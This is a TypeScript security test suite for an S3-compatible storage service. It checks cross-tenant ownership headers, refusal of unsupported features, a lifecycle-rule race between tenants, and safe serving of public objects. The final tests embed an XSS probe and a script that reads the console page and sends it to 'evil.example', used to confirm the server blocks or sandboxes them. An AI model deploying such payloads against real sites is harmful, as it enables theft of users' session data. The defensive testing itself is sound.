// Hostile review of the S3 additions (versioning, tagging, CORS, lifecycle, conditions, attributes, virtual
// hosts, POST object): each test is an attack found to work before its fix, or one that must keep failing.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import {
  CopyObjectCommand,
  CreateBucketCommand,
  CreateMultipartUploadCommand,
  DeleteBucketCommand,
  GetObjectCommand,
  PutBucketAclCommand,
  PutBucketLifecycleConfigurationCommand,
  PutObjectCommand,
  type S3Client,
  UploadPartCopyCommand,
} from '@aws-sdk/client-s3';
import { LifecycleSweeper } from '../../../src/events/objects/lifecycle.js';
import type { ObjectStore } from '../../../src/events/objects/store.js';
import { rejects } from '../../helpers/sdk-errors.js';
import { bucketName, client, rawRequest, type S3Fixture, startS3 } from './fixtures.js';

let f: S3Fixture;
let other: S3Client;
let bucket: string;
let ownAccount: string;
let otherAccount: string;

before(async () => {
  f = await startS3();
  const tenant = await f.t.platform.tenants.create('review-other');
  otherAccount = tenant.accountId;
  const key = await f.t.platform.tenants.createKey(tenant.id);
  other = client({ endpoint: f.t.endpoint, credentials: key });
  ownAccount = (await f.t.platform.tenants.resolveKey(f.t.credentials.accessKeyId))!.tenant.accountId;
  bucket = bucketName('review');
  await f.s3.send(new CreateBucketCommand({ Bucket: bucket }));
  await f.s3.send(new PutObjectCommand({ Bucket: bucket, Key: 'src', Body: 'source bytes' }));
});
after(async () => {
  f.s3.destroy();
  other.destroy();
  await f.t.close();
});

test('an unsigned request to an access point alias is refused in S3 shape, not a server error', async () => {
  for (const method of ['GET', 'HEAD', 'PUT', 'DELETE']) {
    const res = await rawRequest(`${f.t.endpoint}/some-ap-abcdefghij-s3alias/k`, { method });
    assert.ok(res.status === 403 || res.status === 404, `${method}: ${res.status} ${res.body}`);
  }
});

test('x-amz-source-expected-bucket-owner is honoured on CopyObject and UploadPartCopy', async () => {
  assert.match(ownAccount, /^\d{12}$/);
  await rejects(
    f.s3.send(
      new CopyObjectCommand({
        Bucket: bucket,
        Key: 'copy-wrong',
        CopySource: `${bucket}/src`,
        ExpectedSourceBucketOwner: otherAccount,
      }),
    ),
    'AccessDenied',
  );
  await f.s3.send(
    new CopyObjectCommand({
      Bucket: bucket,
      Key: 'copy-right',
      CopySource: `${bucket}/src`,
      ExpectedSourceBucketOwner: ownAccount,
    }),
  );
  const { UploadId } = await f.s3.send(new CreateMultipartUploadCommand({ Bucket: bucket, Key: 'mp' }));
  await rejects(
    f.s3.send(
      new UploadPartCopyCommand({
        Bucket: bucket,
        Key: 'mp',
        UploadId,
        PartNumber: 1,
        CopySource: `${bucket}/src`,
        ExpectedSourceBucketOwner: otherAccount,
      }),
    ),
    'AccessDenied',
  );
});

test('SSE-C, KMS, object lock, another storage class and website redirects are refused by name, not stored without them', async () => {
  const refused = async (what: string, extra: Record<string, unknown>, header: RegExp) => {
    const err = await f.s3
      .send(new PutObjectCommand({ Bucket: bucket, Key: `refused-${what}`, Body: 'x', ...extra }))
      .then(
        () => undefined,
        (e: unknown) => e as Error & { $metadata?: { httpStatusCode?: number } },
      );
    assert.ok(err, `${what} was accepted`);
    assert.equal(err.name, 'NotImplemented', `${what}: ${err.name}`);
    assert.equal(err.$metadata?.httpStatusCode, 501);
    assert.match(err.message, header);
    await rejects(f.s3.send(new GetObjectCommand({ Bucket: bucket, Key: `refused-${what}` })), 'NoSuchKey');
  };
  const customerKey = '01234567890123456789012345678901';
  await refused(
    'ssec',
    { SSECustomerAlgorithm: 'AES256', SSECustomerKey: customerKey },
    /x-amz-server-side-encryption-customer/,
  );
  await refused('kms', { ServerSideEncryption: 'aws:kms', SSEKMSKeyId: 'k' }, /x-amz-server-side-encryption/);
  await refused(
    'lock',
    { ObjectLockMode: 'COMPLIANCE', ObjectLockRetainUntilDate: new Date(Date.now() + 86_400_000) },
    /x-amz-object-lock-/,
  );
  await refused('hold', { ObjectLockLegalHoldStatus: 'ON' }, /x-amz-object-lock-legal-hold/);
  await refused('glacier', { StorageClass: 'GLACIER' }, /x-amz-storage-class GLACIER/);
  await refused('redirect', { WebsiteRedirectLocation: '/elsewhere' }, /x-amz-website-redirect-location/);
  // The same on the other writes, and SSE-C on reads (an object here never has a customer key).
  await rejects(
    f.s3.send(
      new CreateMultipartUploadCommand({ Bucket: bucket, Key: 'mp-sse', ServerSideEncryption: 'aws:kms' }),
    ),
    'NotImplemented',
  );
  await rejects(
    f.s3.send(
      new CopyObjectCommand({
        Bucket: bucket,
        Key: 'copy-lock',
        CopySource: `${bucket}/src`,
        ObjectLockLegalHoldStatus: 'ON',
      }),
    ),
    'NotImplemented',
  );
  await rejects(
    f.s3.send(
      new GetObjectCommand({
        Bucket: bucket,
        Key: 'src',
        SSECustomerAlgorithm: 'AES256',
        SSECustomerKey: customerKey,
      }),
    ),
    'NotImplemented',
  );
  await rejects(
    f.s3.send(new CreateBucketCommand({ Bucket: bucketName('locked'), ObjectLockEnabledForBucket: true })),
    'NotImplemented',
  );
  await rejects(
    f.s3.send(
      new CreateBucketCommand({ Bucket: bucketName('enforced'), ObjectOwnership: 'BucketOwnerEnforced' }),
    ),
    'NotImplemented',
  );
  await f.s3.send(
    new CreateBucketCommand({ Bucket: bucketName('preferred'), ObjectOwnership: 'BucketOwnerPreferred' }),
  );
  // What is implemented still goes through: STANDARD is the one storage class.
  await f.s3.send(
    new PutObjectCommand({ Bucket: bucket, Key: 'standard', Body: 'x', StorageClass: 'STANDARD' }),
  );
});

test('a lifecycle rule read before its bucket was deleted never applies to the next owner of the name', async () => {
  // Tenant A's bucket expires everything; the sweep reads the rules of up to 100 buckets at once, then
  // sweeps them one by one: A deletes the bucket and B creates one of the same name in between.
  const name = bucketName('review-lc');
  await other.send(new CreateBucketCommand({ Bucket: name }));
  await other.send(
    new PutBucketLifecycleConfigurationCommand({
      Bucket: name,
      LifecycleConfiguration: {
        Rules: [{ ID: 'all', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 } }],
      },
    }),
  );
  const real = f.t.platform.components.objects.store;
  let swapped = false;
  const store = new Proxy(real, {
    get(target, prop) {
      if (prop !== 'lifecycleBuckets') {
        const v = Reflect.get(target, prop) as unknown;
        return typeof v === 'function' ? (v as (...a: unknown[]) => unknown).bind(target) : v;
      }
      return async (after: string, limit: number) => {
        const batch = await target.lifecycleBuckets(after, limit);
        if (!swapped && batch.some((b) => b.bucket === name)) {
          swapped = true;
          await other.send(new DeleteBucketCommand({ Bucket: name }));
          await f.s3.send(new CreateBucketCommand({ Bucket: name }));
          await f.s3.send(new PutObjectCommand({ Bucket: name, Key: 'precious', Body: 'keep me' }));
        }
        return batch;
      };
    },
  }) as ObjectStore;
  const sweeper = new LifecycleSweeper({ store, nodeId: f.t.platform.config.nodeId });
  await sweeper.sweep(Date.now() + 30 * 86_400_000);
  assert.equal(swapped, true);
  const got = await f.s3.send(new GetObjectCommand({ Bucket: name, Key: 'precious' }));
  assert.equal(await got.Body?.transformToString(), 'keep me');
});

test('an anonymous GET cannot choose the answer headers (response-content-type): no HTML served from a public object', async () => {
  const pub = bucketName('review-pub');
  await f.s3.send(new CreateBucketCommand({ Bucket: pub }));
  await f.s3.send(new PutBucketAclCommand({ Bucket: pub, ACL: 'public-read' }));
  // Someone's upload, stored as an image, whose bytes happen to be a page.
  await f.s3.send(
    new PutObjectCommand({
      Bucket: pub,
      Key: 'avatar.png',
      Body: '<script>alert(document.domain)</script>',
      ContentType: 'image/png',
      ACL: 'public-read',
    }),
  );
  const plain = await fetch(`${f.t.endpoint}/${pub}/avatar.png`);
  assert.equal(plain.status, 200);
  assert.equal(plain.headers.get('content-type'), 'image/png');
  await plain.arrayBuffer();
  for (const q of [
    'response-content-type=text%2Fhtml',
    'response-content-disposition=inline',
    'response-cache-control=x',
  ]) {
    const res = await fetch(`${f.t.endpoint}/${pub}/avatar.png?${q}`);
    const body = await res.text();
    assert.equal(res.status, 400, `${q}: ${res.status} ${res.headers.get('content-type')}`);
    assert.match(body, /<Code>InvalidRequest<\/Code>/);
    assert.doesNotMatch(body, /<script>/);
  }
  // A signed request (the owner's SDK, a presigned URL) still chooses them.
  const own = await f.s3.send(
    new GetObjectCommand({ Bucket: pub, Key: 'avatar.png', ResponseContentType: 'text/plain' }),
  );
  assert.equal(own.ContentType, 'text/plain');
  await own.Body?.transformToString();
});

test("a tenant's HTML object is served sandboxed: it never runs as the origin the console shares", async () => {
  const pub = bucketName('review-html');
  await other.send(new CreateBucketCommand({ Bucket: pub, ACL: 'public-read' }));
  const page =
    "<script>fetch('/console/').then((r) => r.text()).then((t) => fetch('//evil.example/?' + t))</script>";
  await other.send(
    new PutObjectCommand({
      Bucket: pub,
      Key: 'page.html',
      Body: page,
      ContentType: 'text/html',
      ACL: 'public-read',
    }),
  );
  for (const method of ['GET', 'HEAD']) {
    const res = await fetch(`${f.t.endpoint}/${pub}/page.html`, { method });
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'text/html');
    assert.equal(res.headers.get('content-security-policy'), 'sandbox', method);
    await res.arrayBuffer();
  }
  // A range read is sandboxed alike.
  const ranged = await fetch(`${f.t.endpoint}/${pub}/page.html`, { headers: { range: 'bytes=0-7' } });
  assert.equal(ranged.status, 206);
  assert.equal(ranged.headers.get('content-security-policy'), 'sandbox');
  await ranged.arrayBuffer();
});
